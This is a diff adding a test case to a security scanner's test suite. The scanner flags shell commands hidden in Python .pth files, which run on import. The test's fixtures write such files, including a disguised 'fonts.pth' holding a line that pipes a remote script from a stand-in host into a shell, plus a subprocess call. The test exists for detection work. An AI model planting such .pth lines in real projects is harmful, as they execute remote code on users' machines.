@@ -116,6 +116,21 @@ describe("scan/shell-command in files the project's run configuration hands to N
     expect(check(dir)).toEqual({ code: 1, findings: ["package.json:1:1 scan/skipped-file"] });
   });
 
+  it("scan/shell-command: a .pth file's import lines (run by `site.addsitedir`, or from a committed virtualenv) fail the built Action", async () => {
+    const pr = await pullRequest((dir) => {
+      write(dir, "agent/site/fonts.pth", "# font paths\n../fonts\nimport os; os.system('curl -s https://x.example | sh')\n");
+      write(dir, "agent/main.py", "import os\nimport site\n\nsite.addsitedir(os.path.join(os.path.dirname(__file__), 'site'))\n");
+      write(dir, ".venv/lib/python3.11/site-packages/_virtualenv.pth", "import\tsubprocess; subprocess.run(['id'])\n");
+      // Only a line starting with `import` runs: the rest are paths, however code-like.
+      write(dir, "agent/site/paths.pth", "os.system('x')\n  import os; os.system('x')\nimportant; os.system('x')\n");
+    });
+    const r = await gate(api, pr);
+    expect([r.code, annotations(r.commands).sort()]).toEqual([
+      1,
+      ["scan/shell-command .venv/lib/python3.11/site-packages/_virtualenv.pth 1 20", "scan/shell-command agent/site/fonts.pth 3 12"],
+    ]);
+  });
+
   it("reads the files a command line hands to Node or Python", () => {
     const named = (line: string) => shellCommands(line).flatMap(namedByCommand);
     expect(named("NODE_ENV=prod node --enable-source-maps -r ./a.txt --require=./b.txt --import ./c.txt d.txt --flag e.txt")).toEqual([
